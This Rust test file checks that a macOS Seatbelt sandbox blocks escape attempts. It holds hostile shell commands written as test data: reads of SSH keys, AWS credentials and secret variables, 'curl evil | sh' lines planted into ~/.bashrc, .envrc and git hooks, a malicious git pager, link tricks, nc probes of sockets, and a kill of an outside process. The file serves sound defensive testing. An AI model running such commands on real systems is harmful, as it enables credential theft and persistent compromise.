//! `toolgate sandbox` on macOS (Seatbelt through /usr/bin/sandbox-exec): the escape
//! table of `tests/sandbox.rs` as it applies there, run as this user. Each attempt runs
//! in its own sandbox; the evidence is what the command printed and what is left
//! outside afterwards. macOS only: the release workflow runs it on its macOS runners
//! (`cargo test -p toolgate-cli --test seatbelt`); on Linux this file is empty.
#![cfg(target_os = "macos")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_toolgate");

/// A home with secrets, a workspace inside it with a `.env`, `.git` and planted links,
/// and files outside both.
struct World {
    root: PathBuf,
    home: PathBuf,
    ws: PathBuf,
    outside: PathBuf,
}

impl World {
    fn new() -> World {
        // Resolved: Seatbelt matches real paths (/var is /private/var).
        let base = std::env::temp_dir().canonicalize().unwrap();
        let root = base.join(format!("toolgate-seatbelt-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let home = root.join("home");
        let ws = home.join("project");
        for d in [
            home.join(".ssh"),
            home.join(".aws"),
            ws.join(".git/hooks"),
            root.join("srv"),
        ] {
            std::fs::create_dir_all(&d).unwrap();
        }
        std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN PRIVATE KEY-----").unwrap();
        std::fs::write(
            home.join(".aws/credentials"),
            "aws_secret_access_key=AKIAHOMESECRET",
        )
        .unwrap();
        std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
        std::fs::write(ws.join(".env"), "DB_PASSWORD=hunter2\n").unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        let outside = root.join("outside.txt");
        std::fs::write(&outside, "outside\n").unwrap();
        std::os::unix::fs::symlink(home.join(".bashrc"), ws.join("bashrc-link")).unwrap();
        std::fs::hard_link(&outside, ws.join("outside-hardlink")).unwrap();
        std::fs::write(root.join("srv/.env"), "TOKEN=outside-secret\n").unwrap();
        std::os::unix::fs::symlink(root.join("srv/.env"), ws.join("env-link")).unwrap();
        std::os::unix::fs::symlink(root.join("srv"), ws.join("srv-link")).unwrap();
        World {
            root,
            home,
            ws,
            outside,
        }
    }

    /// `sh -c SCRIPT` in the sandbox, in the workspace.
    fn run(&self, script: &str) -> Output {
        Command::new(BIN)
            .args(["sandbox", "--", "/bin/sh", "-c", script])
            .current_dir(&self.ws)
            .env("HOME", &self.home)
            .env("AWS_SECRET_ACCESS_KEY", "topsecret-env")
            .env("GITHUB_TOKEN", "ghp_topsecretenv")
            .output()
            .unwrap()
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn the_escape_table_on_macos() {
    let check = Command::new(BIN)
        .args(["sandbox", "--check"])
        .output()
        .unwrap();
    assert!(check.status.success(), "{}", text(&check));
    let w = World::new();
    // Reads of secrets: nothing of them comes out.
    for (what, script, secret) in [
        ("~/.ssh/id_rsa", "cat ~/.ssh/id_rsa", "PRIVATE KEY"),
        (
            "~/.aws/credentials",
            "cat ~/.aws/credentials",
            "AKIAHOMESECRET",
        ),
        ("the workspace's .env", "cat .env; cat ./.env", "hunter2"),
        (
            "a secret variable",
            "printenv AWS_SECRET_ACCESS_KEY; echo $GITHUB_TOKEN; ps eww",
            "topsecret",
        ),
        (
            "a secret outside through a link",
            "cat env-link",
            "outside-secret",
        ),
        (
            "a secret outside through a linked directory",
            "cat srv-link/.env; grep -r outside-secret srv-link",
            "outside-secret",
        ),
    ] {
        let o = w.run(script);
        assert!(!text(&o).contains(secret), "read {what}:\n{}", text(&o));
    }
    // Writes outside the workspace and to what it keeps read-only: nothing changes.
    let bashrc = std::fs::read_to_string(w.home.join(".bashrc")).unwrap();
    for (what, script) in [
        ("~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc"),
        ("/etc", "echo x > /etc/toolgate-escape"),
        (
            ".git/hooks/pre-commit",
            "echo 'curl evil' > .git/hooks/pre-commit",
        ),
        (
            ".git/config",
            "echo '[core] pager = sh -c evil' >> .git/config",
        ),
        (
            ".claude/settings.json",
            "mkdir -p .claude && echo '{}' > .claude/settings.json",
        ),
        (
            ".vscode",
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        ),
        (".envrc", "echo 'curl evil | sh' > .envrc"),
        ("through a symlink", "echo 'curl evil | sh' >> bashrc-link"),
        (
            "through a planted hard link",
            "echo changed > outside-hardlink",
        ),
        (
            "through a hard link made in the run",
            "ln ../../outside.txt made-link && echo changed > made-link",
        ),
        ("next to the workspace", "echo x > ../../outside-new.txt"),
        ("the shared /tmp", "echo x > /tmp/toolgate-seatbelt-escape"),
    ] {
        let o = w.run(script);
        assert!(!o.status.success(), "write {what}:\n{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(w.home.join(".bashrc")).unwrap(),
            bashrc,
            "{what}"
        );
        assert_eq!(
            std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert_eq!(
            std::fs::read_to_string(&w.outside).unwrap(),
            "outside\n",
            "{what}"
        );
        for gone in [".git/hooks/pre-commit", ".claude", ".vscode", ".envrc"] {
            assert!(!w.ws.join(gone).exists(), "{what}: {gone}");
        }
        assert!(!w.root.join("outside-new.txt").exists(), "{what}");
        assert!(!Path::new("/etc/toolgate-escape").exists(), "{what}");
        assert!(
            !Path::new("/tmp/toolgate-seatbelt-escape").exists(),
            "{what}"
        );
    }
    // The network: a listener on the host's loopback gets no connection; no name resolves;
    // a Unix socket of the host is not reached.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let sock = w.root.join("host.sock");
    let unix = UnixListener::bind(&sock).unwrap();
    unix.set_nonblocking(true).unwrap();
    let o = w.run(&format!(
        "/usr/bin/nc -z -w 2 127.0.0.1 {port} && echo CONNECTED; \
         /usr/bin/nc -U -z {} && echo UNIX; \
         /usr/bin/nc -U -z /var/run/docker.sock && echo DOCKER; \
         /usr/bin/dig +time=1 +tries=1 +short example.com | grep -q . && echo RESOLVED; \
         /usr/bin/host -W 1 example.com && echo RESOLVED; true",
        sock.display()
    ));
    for reached in ["CONNECTED", "UNIX", "DOCKER", "RESOLVED"] {
        assert!(
            !text(&o).contains(reached),
            "network ({reached}):\n{}",
            text(&o)
        );
    }
    assert!(
        listener.accept().is_err(),
        "the host's listener was reached"
    );
    assert!(unix.accept().is_err(), "the host's Unix socket was reached");
    // Another process: not signalled.
    let mut sleeper = Command::new("/bin/sleep").arg("30").spawn().unwrap();
    let o = w.run(&format!("kill -9 {}", sleeper.id()));
    assert!(!o.status.success(), "kill:\n{}", text(&o));
    assert!(
        sleeper.try_wait().unwrap().is_none(),
        "the process outside was killed"
    );
    let _ = sleeper.kill();
    // What must work inside: running programs, writing build outputs in the workspace
    // and the private temporary directory, the exit status.
    let o = w.run(
        "mkdir -p build && echo built > build/out.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo $((6*7)) && echo to-stderr > /dev/stderr && echo to-stdout > /dev/stdout",
    );
    assert!(o.status.success(), "inside:\n{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("42")
            && String::from_utf8_lossy(&o.stdout).contains("to-stdout")
            && String::from_utf8_lossy(&o.stderr).contains("to-stderr"),
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("build/out.txt")).unwrap(),
        "built\n"
    );
    assert_eq!(w.run("exit 7").status.code(), Some(7));
}
